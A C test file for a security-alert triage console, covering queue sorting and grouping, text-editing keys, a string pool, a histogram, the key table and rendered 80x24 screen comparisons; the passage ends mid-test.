/* The console: the queue model and the key table without curses, then whole screens rendered
 * with newterm on a pipe and compared with tests/screens/ (make update-screens rewrites them
 * for review). TZ=UTC, C.UTF-8, a fixed clock. */
#include "tests/testutil.h"

#include <sqlite3.h>

#include <ctype.h>
#include <curses.h>
#include <locale.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "common/timeutil.h"
#include "detect/detect.h"
#include "detect/rule.h"
#include "ingest/ingest.h"
#include "store/alerts.h"
#include "store/rules.h"
#include "triage/kibana.h"
#include "tui/app.h"
#include "tui/dialog.h"
#include "tui/draw.h"
#include "tui/exception_view.h"
#include "tui/histogram.h"
#include "tui/keymap.h"
#include "tui/queue.h"
#include "tui/screen.h"
#include "tui/textedit.h"
#include "tui/view.h"

#define T0      INT64_C(1767225600000000)
#define CTRL(c) ((c)&0x1f)

/* ---- the model, no curses ---- */

static void add(struct queue *q, const char *uuid, const char *status, const char *sev, const char *host, int64_t t)
{
	struct qrow r = {.uuid = uuid,
	                 .status = status,
	                 .severity = sev,
	                 .host = host,
	                 .rule = "rule",
	                 .target = "/x",
	                 .time = t,
	                 .kql_hit = 1};
	queue_add(q, &r);
}

/* The view's uuids; a host's row in capitals (its first alert's uuid). */
static const char *order(const struct queue *q)
{
	static char buf[128];
	size_t n = 0;
	for (size_t i = 0; i < q->nview && n + 2 < sizeof(buf); i++) {
		const char *u = q->rows[q->view[i].row].uuid;
		buf[n++] = q->view[i].kind == SLOT_GROUP ? (char)toupper((unsigned char)u[0]) : u[0];
	}
	buf[n] = '\0';
	return buf;
}

static void test_queue_model(void **state)
{
	(void)state;
	struct queue q;
	queue_init(&q);
	add(&q, "a", "open", "low", "h2", 30);
	add(&q, "b", "open", "critical", "h1", 10);
	add(&q, "c", "closed", "high", "h1", 20);
	add(&q, "d", "acknowledged", "medium", "h3", 5);
	add(&q, "e", "open", "medium", "h1", 40);
	queue_apply(&q);
	assert_string_equal(order(&q), "eab"); /* open, newest first */
	assert_string_equal(queue_order_name(&q), "newest first");
	q.sort = SORT_SEVERITY;
	queue_apply(&q);
	assert_string_equal(order(&q), "bea");
	q.sort = SORT_HOST;
	queue_apply(&q);
	assert_string_equal(order(&q), "eba"); /* h1 (newest first), h2 */
	q.reverse = 1;
	queue_apply(&q);
	assert_string_equal(order(&q), "abe");
	assert_string_equal(queue_order_name(&q), "by host, Z-A");
	q.filter = FILTER_ALL;
	q.sort = SORT_TIME;
	queue_apply(&q);
	assert_string_equal(order(&q), "dbcae"); /* oldest first */
	q.reverse = 0;
	queue_apply(&q);
	assert_string_equal(order(&q), "eacbd");
	/* by host: h1's three alerts are one row, at its newest; h2 and h3 have one each */
	queue_move(&q, -100, 3);
	q.group_host = 1;
	queue_apply(&q);
	assert_string_equal(order(&q), "Ead");
	assert_null(queue_selected(&q)); /* the selected e is folded into its host's row */
	const struct queue_group *g = queue_selected_group(&q);
	assert_non_null(g);
	assert_int_equal(g->n, 3);
	assert_int_equal(g->open, 2);
	assert_int_equal(g->top_rank, 4);
	assert_int_equal(g->by_severity[4], 1); /* b */
	assert_int_equal(g->by_severity[3], 1); /* c */
	assert_int_equal(g->by_severity[2], 1); /* e */
	size_t rows[5], n = queue_group_rows(&q, g, rows);
	assert_int_equal(n, 3);
	assert_string_equal(q.rows[rows[0]].uuid, "e");
	assert_string_equal(q.rows[rows[1]].uuid, "c");
	assert_string_equal(q.rows[rows[2]].uuid, "b");
	queue_toggle_group(&q); /* expanded: its alerts under it */
	assert_string_equal(order(&q), "Eecbad");
	assert_int_equal(q.view[1].kind, SLOT_MEMBER);
	assert_int_equal(q.sel, 0);
	queue_move(&q, 3, 10);
	assert_string_equal(queue_selected(&q)->uuid, "b");
	queue_toggle_group(&q); /* not a host's row: nothing */
	assert_string_equal(order(&q), "Eecbad");
	q.sort = SORT_SEVERITY; /* the expanded host stays expanded, b stays selected */
	queue_apply(&q);
	assert_string_equal(order(&q), "Bbceda"); /* h1 at b (critical); h3: d; h2: a */
	assert_string_equal(queue_selected(&q)->uuid, "b");
	queue_move(&q, -100, 10);
	queue_toggle_group(&q);
	assert_string_equal(order(&q), "Bda");
	queue_select_row(&q, 2, 10); /* c: folded, so its host's row */
	assert_int_equal(q.sel, 0);
	q.sort = SORT_TIME;
	queue_select_row(&q, 1, 10); /* b */
	q.group_host = 0;
	queue_apply(&q);
	/* the selection followed b through every re-sort */
	assert_string_equal(order(&q), "eacbd");
	assert_string_equal(queue_selected(&q)->uuid, "b");
	/* selection, marks and search */
	queue_move(&q, -100, 3);
	queue_move(&q, 2, 3);
	assert_string_equal(queue_selected(&q)->uuid, "c");
	queue_move(&q, 10, 3);
	assert_string_equal(queue_selected(&q)->uuid, "d");
	assert_int_equal(q.top, 2);
	queue_move(&q, -100, 3);
	assert_int_equal(q.sel, 0);
	assert_int_equal(q.top, 0);
	assert_true(queue_search(&q, "H3", 1, 3));
	assert_string_equal(queue_selected(&q)->uuid, "d");
	assert_false(queue_search(&q, "nowhere", 1, 3));
	assert_true(queue_search(&q, "h2", 1, 3)); /* wraps */
	assert_string_equal(queue_selected(&q)->uuid, "a");
	assert_true(queue_search(&q, "critical", -1, 3)); /* wraps back */
	assert_string_equal(queue_selected(&q)->uuid, "b");
	queue_set_mark(&q, 0, 1);
	queue_set_mark(&q, 2, 1);
	queue_set_mark(&q, 2, 1); /* marking twice counts once */
	assert_int_equal(queue_marked(&q), 2);
	assert_int_equal(q.rows[2].marked, 1);
	/* the selected alert stays selected across a re-sort */
	q.sort = SORT_SEVERITY;
	queue_apply(&q);
	assert_string_equal(queue_selected(&q)->uuid, "b");
	size_t o, a, c;
	queue_counts(&q, &o, &a, &c);
	assert_int_equal(o, 3);
	assert_int_equal(a, 1);
	assert_int_equal(c, 1);
	queue_release(&q);
}

/* Rows in time order (as the store lists them) are sorted by a counting sort, others by
 * qsort: both give the same views. */
/* M's model: the shown alerts of the row's rule or host, or all shown, each marked once; the
 * ones a filter hides stay unmarked. */
/* A sequence's building blocks, added after their sequence alert (store_queue_tree_each's
 * order), are hidden with the other building blocks; shown (b), they follow their sequence
 * alert in their own order whatever the sort and its direction, each under its own status
 * filter, and the counts by status are the top-level alerts'. */
static void test_queue_nests_building_blocks_under_their_sequence(void **state)
{
	(void)state;
	static const struct {
		const char *uuid, *status, *severity;
		int64_t time, parent; /* parent: the id (1 + index) of its sequence alert */
	} rows[] = {
	    {"s1", "open", "high", 3, 0},       {"b1", "open", "medium", 1, 0 + 1}, {"b2", "open", "medium", 5, 1},
	    {"lone", "open", "critical", 4, 0}, {"s2", "open", "low", 7, 0},        {"c0", "closed", "medium", 6, 5},
	};
	static const struct {
		enum queue_sort sort;
		int reverse, show;
		enum queue_filter filter;
		const char *want;
	} cases[] = {
	    {SORT_TIME, 0, 0, FILTER_OPEN, "s2 lone s1 "},             /* hidden, as in Kibana */
	    {SORT_TIME, 0, 1, FILTER_OPEN, "s2 lone s1 b1 b2 "},       /* c0 is closed */
	    {SORT_TIME, 0, 1, FILTER_ALL, "s2 c0 lone s1 b1 b2 "},     /* */
	    {SORT_TIME, 1, 1, FILTER_ALL, "s1 b1 b2 lone s2 c0 "},     /* oldest first: blocks keep their order */
	    {SORT_SEVERITY, 0, 1, FILTER_ALL, "lone s1 b1 b2 s2 c0 "}, /* by the sequence alert's severity */
	    {SORT_SEVERITY, 1, 1, FILTER_ALL, "s2 c0 s1 b1 b2 lone "}, /* */
	    {SORT_TIME, 0, 1, FILTER_CLOSED, ""},                      /* c0 alone: its sequence is not shown */
	};
	for (size_t k = 0; k < sizeof(cases) / sizeof(cases[0]); k++) {
		struct queue q;
		queue_init(&q);
		for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
			struct qrow r = {.id = (int64_t)i + 1,
			                 .uuid = rows[i].uuid,
			                 .status = rows[i].status,
			                 .severity = rows[i].severity,
			                 .host = "h",
			                 .rule = "r",
			                 .time = rows[i].time,
			                 .group_parent = rows[i].parent,
			                 .building_block = rows[i].parent > 0,
			                 .kql_hit = 1};
			queue_add(&q, &r);
		}
		q.sort = cases[k].sort;
		q.reverse = cases[k].reverse;
		q.show_building_blocks = cases[k].show;
		q.filter = cases[k].filter;
		queue_apply(&q);
		char got[64] = "";
		for (size_t i = 0; i < q.nview; i++) {
			const struct qrow *r = queue_slot_alert(&q, i);
			snprintf(got + strlen(got), sizeof(got) - strlen(got), "%s ", r ? r->uuid : "?");
		}
		if (strcmp(got, cases[k].want))
			fail_msg("case %zu: want \"%s\", got \"%s\"", k, cases[k].want, got);
		size_t open, ack, closed;
		queue_counts(&q, &open, &ack, &closed);
		assert_int_equal(open, 3); /* s1, lone, s2: the blocks are counted with their sequence */
		assert_int_equal(closed, 0);
		queue_release(&q);
	}
}

static void test_queue_mark_like(void **state)
{
	(void)state;
	static const struct {
		const char *uuid, *status, *host, *rule;
	} rows[] = {{"a", "open", "h1", "r1"},
	            {"b", "open", "h1", "r2"},
	            {"c", "open", "h2", "r1"},
	            {"d", "closed", "h1", "r1"},
	            {"e", "open", "h2", "r2"}};
	static const struct {
		enum queue_like by;
		size_t like; /* row */
		const char *marked;
		size_t added;
	} cases[] = {
	    {LIKE_RULE, 0, "ac", 2}, /* r1, shown: a and c (d is closed, hidden) */
	    {LIKE_HOST, 0, "ab", 2}, /* h1, shown: a and b */
	    {LIKE_HOST, 2, "ce", 2}, /* h2 */
	    {LIKE_SHOWN, 0, "abce", 4},
	};
	for (size_t k = 0; k < sizeof(cases) / sizeof(cases[0]); k++) {
		struct queue q;
		queue_init(&q);
		for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
			struct qrow r = {.uuid = rows[i].uuid,
			                 .status = rows[i].status,
			                 .severity = "low",
			                 .host = rows[i].host,
			                 .rule = rows[i].rule,
			                 .time = (int64_t)i,
			                 .kql_hit = 1};
			queue_add(&q, &r);
		}
		queue_apply(&q);
		queue_set_mark(&q, 0, 1); /* a, by hand: already marked, not added again */
		size_t added = queue_mark_like(&q, cases[k].like, cases[k].by);
		char got[8] = "";
		size_t n = 0;
		for (size_t i = 0; i < q.n; i++)
			if (q.rows[i].marked)
				got[n++] = q.rows[i].uuid[0];
		got[n] = '\0';
		char want[8];
		snprintf(want, sizeof(want), "%s", cases[k].marked);
		if (!strchr(want, 'a')) /* the hand-marked a stays marked */
			snprintf(want, sizeof(want), "a%s", cases[k].marked);
		assert_string_equal(got, want);
		assert_int_equal(added, cases[k].added - (strchr(cases[k].marked, 'a') ? 1 : 0));
		assert_int_equal(queue_marked(&q), strlen(want));
		queue_release(&q);
	}
}

static void test_queue_sorts_agree_whatever_the_row_order(void **state)
{
	(void)state;
	static const struct {
		const char *uuid, *status, *sev, *host;
		int64_t t;
	} rows[] = {{"d", "acknowledged", "medium", "h3", 5}, {"b", "open", "critical", "h1", 10},
	            {"c", "closed", "high", "h1", 20},        {"f", "open", "critical", "h2", 20},
	            {"a", "open", "low", "h2", 30},           {"e", "open", "medium", "h1", 40}};
	/* [grouped][sort][reversed]: ties (c and f at 20) newest first means the greater uuid first */
	static const char *const want[2][SORT_COUNT][2] = {
	    {{"eafcbd", "dbcfae"}, {"fbceda", "adecbf"}, {"ecbafd", "dfabce"}},
	    {{"EAd", "dBF"}, {"FBd", "AdE"}, {"EAd", "dFB"}}};
	for (int reversed = 0; reversed < 2; reversed++) {
		struct queue q;
		queue_init(&q);
		for (size_t i = 0; i < 6; i++) {
			size_t k = reversed ? 5 - i : i;
			struct qrow r = {.id = (int64_t)(100 + k),
			                 .uuid = rows[k].uuid,
			                 .status = rows[k].status,
			                 .severity = rows[k].sev,
			                 .host = rows[k].host,
			                 .time = rows[k].t,
			                 .kql_hit = 1};
			queue_add(&q, &r);
		}
		assert_int_equal(q.rows_in_time_order, !reversed);
		q.filter = FILTER_ALL;
		for (int g = 0; g < 2; g++)
			for (int sort = 0; sort < SORT_COUNT; sort++)
				for (int rev = 0; rev < 2; rev++) {
					q.group_host = g;
					q.sort = (enum queue_sort)sort;
					q.reverse = rev;
					queue_apply(&q);
					assert_string_equal(order(&q), want[g][sort][rev]);
				}
		/* rows by id, and a status change through the pool */
		long row = queue_find_id(&q, 104);
		assert_true(row >= 0);
		assert_string_equal(q.rows[row].uuid, "a");
		assert_int_equal(queue_find_id(&q, 99), -1);
		queue_set_status(&q, (size_t)row, "closed");
		q.filter = FILTER_OPEN, q.group_host = 0, q.sort = SORT_TIME, q.reverse = 0;
		queue_apply(&q);
		assert_string_equal(order(&q), "efb");
		size_t o, a, c;
		queue_counts(&q, &o, &a, &c);
		assert_int_equal(o, 3);
		assert_int_equal(c, 2);
		queue_release(&q);
	}
}

/* The same 3,000 rows, some at the same instant, added in time order (counting sorts) and
 * shuffled (qsort): every filter, sort and grouping shows the same alerts in the same order. */
static void test_queue_sort_paths_agree_on_random_rows(void **state)
{
	(void)state;
	enum { N = 3000 };
	static const char *const sev[] = {"low", "medium", "high", "critical", "odd"};
	static const char *const status[] = {"open", "acknowledged", "closed"};
	static char uuid[N][12], host[N][8];
	size_t order_in[N];
	unsigned seed = 7;
	struct qrow rows[N];
	for (size_t i = 0; i < N; i++) {
		seed = seed * 1103515245u + 12345u;
		snprintf(uuid[i], sizeof(uuid[i]), "u%05zu", (size_t)(seed >> 8) % 100000);
		uuid[i][0] = (char)('a' + i % 7); /* random, unique: the row number ends it */
		snprintf(uuid[i] + 6, sizeof(uuid[i]) - 6, "%04zu", i);
		snprintf(host[i], sizeof(host[i]), "h%u", (seed >> 4) % 13);
		rows[i] = (struct qrow){.id = (int64_t)i + 1,
		                        .uuid = uuid[i],
		                        .status = status[(seed >> 12) % 3],
		                        .severity = sev[(seed >> 16) % 5],
		                        .host = host[i],
		                        .time = (seed >> 20) % 500,
		                        .kql_hit = (seed >> 3) % 11 != 0};
		order_in[i] = i;
	}
	struct queue in_order, shuffled;
	queue_init(&in_order);
	queue_init(&shuffled);
	/* time order by a plain insertion sort on (time, uuid) */
	for (size_t i = 1; i < N; i++)
		for (size_t j = i; j > 0; j--) {
			const struct qrow *a = &rows[order_in[j - 1]], *b = &rows[order_in[j]];
			if (a->time < b->time || (a->time == b->time && strcmp(a->uuid, b->uuid) < 0))
				break;
			size_t t = order_in[j];
			order_in[j] = order_in[j - 1], order_in[j - 1] = t;
		}
	for (size_t i = 0; i < N; i++)
		queue_add(&in_order, &rows[order_in[i]]);
	for (size_t i = 0; i < N; i++)
		queue_add(&shuffled, &rows[(i * 7919) % N]); /* 7919 is prime: a permutation */
	assert_int_equal(in_order.rows_in_time_order, 1);
	assert_int_equal(shuffled.rows_in_time_order, 0);
	for (int f = 0; f < FILTER_COUNT; f++)
		for (int g = 0; g < 2; g++)
			for (int sort = 0; sort < SORT_COUNT * 2; sort++) {
				struct queue *qs[] = {&in_order, &shuffled};
				for (int k = 0; k < 2; k++) {
					qs[k]->filter = (enum queue_filter)f, qs[k]->group_host = g;
					qs[k]->sort = (enum queue_sort)(sort / 2);
					qs[k]->reverse = sort % 2;
					queue_apply(qs[k]);
				}
				assert_true(in_order.nview > (g ? 5u : 100u));
				assert_int_equal(in_order.nview, shuffled.nview);
				for (size_t i = 0; i < in_order.nview; i++) {
					const struct qrow *a = &in_order.rows[in_order.view[i].row],
					                  *b = &shuffled.rows[shuffled.view[i].row];
					assert_string_equal(a->uuid, b->uuid);
					assert_int_equal(in_order.view[i].kind, shuffled.view[i].kind);
					if (in_order.view[i].kind == SLOT_GROUP)
						assert_int_equal(in_order.groups[in_order.view[i].group].n,
						                 shuffled.groups[shuffled.view[i].group].n);
				}
			}
	queue_release(&in_order);
	queue_release(&shuffled);
}

/* readline's basics on the text model: moves over whole UTF-8 characters, kills by line and
 * word, and Up and Down between rows wrapped to a width. */
static void test_text_editing_keys(void **state)
{
	(void)state;
	setlocale(LC_ALL, "C.UTF-8");
	struct textedit e;
	textedit_init(&e, "caf\xc3\xa9 noir");
	assert_int_equal(e.cursor, 10);
	textedit_key(&e, KEY_LEFT, 0);
	textedit_key(&e, KEY_LEFT, 0);
	textedit_key(&e, KEY_LEFT, 0);
	textedit_key(&e, KEY_LEFT, 0);
	textedit_key(&e, KEY_LEFT, 0);
	textedit_key(&e, KEY_LEFT, 0); /* over the space, then over é: two bytes at once */
	assert_int_equal(e.cursor, 3);
	textedit_key(&e, KEY_BACKSPACE, 0);
	assert_string_equal(e.text.buf, "ca\xc3\xa9 noir");
	textedit_key(&e, KEY_DC, 0);
	assert_string_equal(e.text.buf, "ca noir");
	textedit_key(&e, 'f', 0);
	assert_string_equal(e.text.buf, "caf noir");
	textedit_key(&e, CTRL('a'), 0);
	textedit_key(&e, '>', 0);
	textedit_key(&e, CTRL('e'), 0);
	assert_string_equal(e.text.buf, ">caf noir");
	assert_int_equal(e.cursor, 9);
	textedit_key(&e, CTRL('w'), 0);
	assert_string_equal(e.text.buf, ">caf ");
	textedit_key(&e, KEY_HOME, 0);
	textedit_key(&e, KEY_RIGHT, 0);
	textedit_key(&e, CTRL('k'), 0);
	assert_string_equal(e.text.buf, ">");
	textedit_key(&e, CTRL('u'), 0);
	assert_string_equal(e.text.buf, "");
	assert_int_equal(textedit_key(&e, KEY_F(5), 0), 0);
	/* rows: "abcdef" wraps at 4 columns; the newline starts a row of its own */
	textedit_insert(&e, "abcdef\nxy", 9);
	struct textedit_row *rows;
	size_t at, n = textedit_rows(&e, 4, &rows, &at);
	assert_int_equal(n, 3);
	assert_int_equal(rows[0].start, 0);
	assert_int_equal(rows[0].end, 4);
	assert_int_equal(rows[1].start, 4);
	assert_int_equal(rows[1].end, 6);
	assert_int_equal(rows[2].start, 7);
	assert_int_equal(at, 2);
	free(rows);
	textedit_key(&e, KEY_UP, 4); /* column 2 of "ef": its end */
	assert_int_equal(e.cursor, 6);
	textedit_key(&e, KEY_UP, 4);
	assert_int_equal(e.cursor, 2);
	textedit_key(&e, KEY_UP, 4); /* the first row: stays */
	assert_int_equal(e.cursor, 2);
	textedit_key(&e, KEY_DOWN, 4);
	textedit_key(&e, KEY_DOWN, 4);
	assert_int_equal(e.cursor, 9);
	textedit_key(&e, KEY_HOME, 4);
	textedit_key(&e, CTRL('w'), 4); /* at a line's start: the newline */
	assert_string_equal(e.text.buf, "abcdefxy");
	textedit_key(&e, KEY_LEFT, 4);
	textedit_key(&e, CTRL('k'), 4);
	assert_string_equal(e.text.buf, "abcde");
	textedit_release(&e);
}

static void test_string_pool(void **state)
{
	(void)state;
	struct strpool p;
	strpool_init(&p);
	size_t id1, id2, id3;
	const char *a = strpool_intern(&p, "mac", &id1), *b = strpool_intern(&p, "linux", &id2);
	assert_ptr_equal(strpool_intern(&p, "mac", &id3), a); /* one copy */
	assert_int_equal(id1, 0);
	assert_int_equal(id2, 1);
	assert_int_equal(id3, 0);
	assert_string_equal(strpool_string(&p, 1), "linux");
	assert_ptr_equal(strpool_string(&p, 1), b);
	assert_null(strpool_string(&p, 2));
	assert_ptr_equal(strpool_find(&p, "linux"), b); /* the pool as a set */
	assert_null(strpool_find(&p, "bsd"));
	assert_int_equal(strpool_count(&p), 2);
	assert_string_equal(strpool_intern(&p, NULL, NULL), "");
	/* more strings than the first table holds, and one larger than a block */
	char name[32];
	for (int i = 0; i < 1000; i++) {
		snprintf(name, sizeof(name), "host-%d", i);
		strpool_intern(&p, name, NULL);
	}
	assert_int_equal(strpool_count(&p), 1003);
	strpool_intern(&p, "host-500", &id1);
	assert_int_equal(id1, 503);
	char *big = malloc(200000);
	memset(big, 'x', 199999);
	big[199999] = '\0';
	const char *c = strpool_copy(&p, big);
	assert_string_equal(c, big);
	assert_string_equal(strpool_copy(&p, "after"), "after");
	assert_string_equal(a, "mac"); /* earlier strings stay put */
	free(big);
	strpool_release(&p);
	assert_int_equal(strpool_count(&p), 0);
}

/* The histogram's buckets split the window evenly, its ends included; a bar is in proportion
 * to the fullest column, rounded up so that one event among thousands still shows. */
static void test_histogram_counts_and_bars(void **state)
{
	(void)state;
	struct histogram h;
	histogram_init(&h, 0, 999, 10); /* 1,000 µs in 10 columns of 100 */
	static const struct {
		int64_t t;
		size_t bucket;
	} at[] = {{-5, 0}, {0, 0}, {99, 0}, {100, 1}, {550, 5}, {999, 9}, {5000, 9}};
	for (size_t i = 0; i < sizeof(at) / sizeof(at[0]); i++)
		assert_int_equal(histogram_bucket(&h, at[i].t), at[i].bucket);
	for (int i = 0; i < 16; i++)
		histogram_add(&h, 150); /* column 1: 16 */
	histogram_add(&h, 0);           /* column 0: 1 */
	for (int i = 0; i < 8; i++)
		histogram_add(&h, 999); /* column 9: 8 */
	histogram_add(&h, -1);          /* outside: not counted */
	histogram_add(&h, 1000);
	assert_int_equal(h.max, 16);
	assert_int_equal(histogram_level(&h, 0), 0);
	assert_int_equal(histogram_level(&h, 1), 1);
	assert_int_equal(histogram_level(&h, 8), 4);
	assert_int_equal(histogram_level(&h, 16), 8);
	struct strbuf bars;
	strbuf_init(&bars, 64);
	histogram_bars(&h, &bars);
	assert_string_equal(bars.buf, "▁█       ▄");
	strbuf_release(&bars);
	histogram_release(&h);
	/* a window of one instant, and one of centuries: no division by zero, no overflow */
	histogram_init(&h, 42, 42, 80);
	histogram_add(&h, 42);
	assert_int_equal(h.counts[0], 1);
	histogram_release(&h);
	histogram_init(&h, INT64_MIN / 2, INT64_MAX / 2, 80);
	assert_int_equal(histogram_bucket(&h, 0), 40); /* 2^62 into a span of 2^63 */
	assert_int_equal(histogram_bucket(&h, INT64_MAX / 2 - 1), 79);
	histogram_release(&h);
}

static void test_key_table(void **state)
{
	(void)state;
	assert_int_equal(keymap_lookup('j', CTX_QUEUE), ACT_DOWN);
	assert_int_equal(keymap_lookup(KEY_DOWN, CTX_ALERT | CTX_NOTES), ACT_DOWN);
	assert_int_equal(keymap_lookup(' ', CTX_QUEUE), ACT_MARK);
	assert_int_equal(keymap_lookup(' ', CTX_ALERT | CTX_CHECKLIST), ACT_TOGGLE);
	assert_int_equal(keymap_lookup('n', CTX_QUEUE), ACT_SEARCH_NEXT);
	assert_int_equal(keymap_lookup('n', CTX_ALERT | CTX_RESPONSE), ACT_NOT_APPLICABLE);
	assert_int_equal(keymap_lookup('s', CTX_ALERT | CTX_RESPONSE), ACT_SKIP);
	assert_int_equal(keymap_lookup('s', CTX_QUEUE), ACT_SORT);
	assert_int_equal(keymap_lookup('p', CTX_ALERT | CTX_TIMELINE), ACT_PIVOT_PROCESS);
	assert_int_equal(keymap_lookup('C', CTX_ALERT | CTX_TIMELINE), ACT_CLOSE);
	assert_int_equal(keymap_lookup('k', CTX_ALERT | CTX_RESPONSE), ACT_UP); /* k is always movement */
	assert_int_equal(keymap_lookup('z', CTX_QUEUE), ACT_NONE);
	assert_int_equal(keymap_lookup('+', CTX_QUEUE), ACT_NONE);
	assert_int_equal(keymap_lookup(KEY_ESC, CTX_QUEUE), ACT_IDLE); /* no view to leave: q quits */
	assert_int_equal(keymap_lookup(KEY_ESC, CTX_EVENTS), ACT_BACK);
	assert_int_equal(keymap_lookup('q', CTX_QUEUE), ACT_BACK);
	assert_int_equal(keymap_lookup('q', CTX_ALERT | CTX_RESPONSE), ACT_BACK);
	assert_int_equal(keymap_lookup('q', CTX_ALERT | CTX_NOTES | CTX_WALK), ACT_END_WALK);
	/* every action has keys and help, and docs/CONSOLE.md lists every one of them */
	FILE *f = fopen("docs/CONSOLE.md", "r");
	assert_non_null(f);
	char doc[65536];
	size_t n = fread(doc, 1, sizeof(doc) - 1, f);
	doc[n] = '\0';
	fclose(f);
	for (int i = 1; i < ACT_COUNT; i++) {
		assert_true(strlen(keymap_keys(i)) > 0);
		char row[300];
		snprintf(row, sizeof(row), "| `%s` | %s |", keymap_keys(i), tui_actions[i].help);
		if (!strstr(doc, row))
			fail_msg("docs/CONSOLE.md does not list: %s", row);
	}
}

/* Every tab's status-line hints name actions that work on that tab: the hints come from the key
 * table, so a key named there is a key that does what it says. */
static void test_tab_hints_come_from_the_key_table(void **state)
{
	(void)state;
	for (int t = 0; t < TAB_COUNT; t++) {
		const struct tab_ops *tab = alert_tabs[t];
		unsigned ctx = CTX_ALERT | tab->ctx;
		assert_true(tab->nhints > 0);
		for (size_t i = 0; i < tab->nhints; i++) {
			enum tui_action acts[2] = {tab->hints[i].act, tab->hints[i].act2};
			for (int k = 0; k < 2; k++)
				if (acts[k] && !(tui_actions[acts[k]].ctx & (ctx | CTX_ALL)))
					fail_msg("tab %s hints %s, which does not work there", tab->name,
					         tui_actions[acts[k]].name);
		}
	}
	char out[200];
	const struct hint h[] = {{ACT_DOWN, ACT_UP, "/", "scroll"}, {ACT_PREV_TAB, 0, "", "back a tab"}};
	ui_hints(h, 2, out, sizeof(out));
	assert_string_equal(out, "j/k scroll  Shift-Tab back a tab");
}

/* ---- screens ---- */

static struct store *db;
static struct app *app;
static FILE *out, *in;
static int pipefd[2];

static int64_t fixed_clock(void)
{
	return T0 + 90 * TIME_US_PER_SEC;
}

static int setup(void **state)
{
	(void)state;
	setlocale(LC_ALL, "C.UTF-8");
	char *err = NULL;
	static int n;
	char name[32];
	snprintf(name, sizeof(name), "tui-%d.db", ++n);
	assert_int_equal(store_open(tu_path(name), STORE_CREATE, &db, &err), 0);
	assert_int_equal(rules_load_pack(db, &(struct diag_sink){diag_to_stream, stderr}), 0);
	tu_seed_rule_only(db); /* the screens of the seed rule's alerts; a sequence's: its own test */
	FILE *devnull = fopen("/dev/null", "w");
	struct ingest_options o = {.analyst = "t", .errors = {diag_to_stream, devnull}};
	struct ingest_counts c = {0};
	assert_int_equal(ingest_path(db, "tests/fixtures/hostile.ndjson", &o, &c), INGEST_OK);
	fclose(devnull);
	struct detect_options d = {.now_us = T0};
	struct detect_totals t;
	assert_int_equal(detect_run(db, &d, &t), 0);
	assert_int_equal(pipe(pipefd), 0);
	in = fdopen(pipefd[0], "r");
	out = fopen("/dev/null", "w");
	assert_int_equal(screen_open(out, in, 24, 80), 0);
	struct app_options ao = {.analyst = "amy", .db_name = "case.db", .clock = fixed_clock, .colors = 0};
	app = app_new(db, &ao);
	assert_int_equal(app_load(app), 0);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	app_free(app);
	screen_close();
	fclose(in);
	close(pipefd[1]);
	fclose(out);
	store_close(db);
	return 0;
}

static void keys(const char *k)
{
	for (; *k; k++)
		app_handle_key(app, (unsigned char)*k);
}

static int screen_has(const char *text);

/* Renders and compares the whole screen with tests/screens/NAME.txt. */
static void check_screen(const char *name)
{
	app_draw(app);
	struct strbuf got;
	strbuf_init(&got, 4096);
	char row[4096];
	for (int y = 0; y < LINES; y++) {
		screen_row(y, row, sizeof(row));
		strbuf_addf(&got, "%s\n", row);
	}
	char path[256];
	snprintf(path, sizeof(path), "tests/screens/%s.txt", name);
	if (getenv("UPDATE_SCREENS")) {
		tu_write(path, got.buf, got.len);
	} else {
		FILE *f = fopen(path, "r");
		if (!f)
			fail_msg("%s is missing: run make update-screens and review it", path);
		char want[65536];
		size_t n = fread(want, 1, sizeof(want) - 1, f);
		want[n] = '\0';
		fclose(f);
		if (strcmp(want, got.buf)) {
			tu_write(tu_path(name), got.buf, got.len);
			fail_msg("screen %s differs from %s; got:\n%s", name, path, got.buf);
		}
	}
	strbuf_release(&got);
}

static void test_screens_80x24(void **state)
{
	(void)state;
	check_screen("queue-80x24");
	keys("f");
	keys("f");
	keys("f");
	check_screen("queue-all-80x24");
	keys("?");
	check_screen("help-80x24");
	keys("q");
	keys("fj\n"); /* back to open alerts; open the second (the older): the hostile one */
	check_screen("overview-hostile-80x24");
	keys("2");
	check_screen("guide-80x24");
	/* emphasis is drawn, not just parsed: "Disclaimer" is **strong** in the seed's guide */
	int found = 0;
	for (int y = 4; y < LINES - 1 && !found; y++) {
		char row[512];
		screen_row(y, row, sizeof(row));
		char *d = strstr(row, "Disclaimer");
		if (d) {
			found = 1;
			assert_true((mvinch(y, (int)(d - row)) & A_BOLD) != 0);
			assert_true((mvinch(y, 2) & A_BOLD) == 0); /* the quote bar before it is plain */
		}
	}
	assert_true(found);
	/* / searches a text tab's lines: the guide scrolls to the match; n finds it again */
	assert_false(screen_has("What this rule does not see"));
	keys("/what this rule does not see\n");
	assert_true(screen_has("What this rule does not see"));
	keys("n");
	assert_string_equal(app_message(app), "");
	keys("/no such words anywhere\n");
	assert_string_equal(app_message(app), "not found");
	keys("g");
	keys("3");
	check_screen("timeline-80x24");
	keys("\n");
	check_screen("event-json-80x24");
	keys("jj\n");
	check_screen("event-json-folded-80x24");
	keys("/no such text\n"); /* / searches the event's lines */
	assert_string_equal(app_message(app), "not found");
	keys("/@timestamp\n");
	assert_string_equal(app_message(app), "");
	keys("q");
	keys("4 ");
	check_screen("checklist-80x24");
	keys("5d");
	check_screen("response-80x24");
	/* w walks through the pending steps; q ends the walk, in the view (q again would leave it) */
	keys("w");
	assert_non_null(strstr(app_message(app), "walk-through"));
	keys("q");
	assert_true(view_top(app) == &alert_view);
	assert_string_equal(app_message(app), "");
	keys("6a");
	keys("two lines\n");
	app_handle_char(app, 0xe9); /* é */
	app_handle_key(app, CTRL('d'));
	check_screen("notes-80x24");
	keys("C");
	check_screen("close-dialog-80x24");
	keys("3");
	keys("checked\n");
	check_screen("close-confirm-80x24");
	keys("y");
	check_screen("closed-80x24");
	/* a note being written survives "Discard?" answered no: the editor comes back with it */
	keys("a");
	keys("keep me");
	app_handle_key(app, 27);
	assert_true(screen_has("Discard this note? (y/n)"));
	keys("n");
	assert_true(screen_has("keep me"));
	assert_false(screen_has("Discard this note?"));
	app_handle_key(app, CTRL('d'));
	assert_string_equal(app_message(app), "note saved");
	assert_true(screen_has("keep me"));
	keys("a");
	keys("gone");
	app_handle_key(app, 27);
	keys("y");
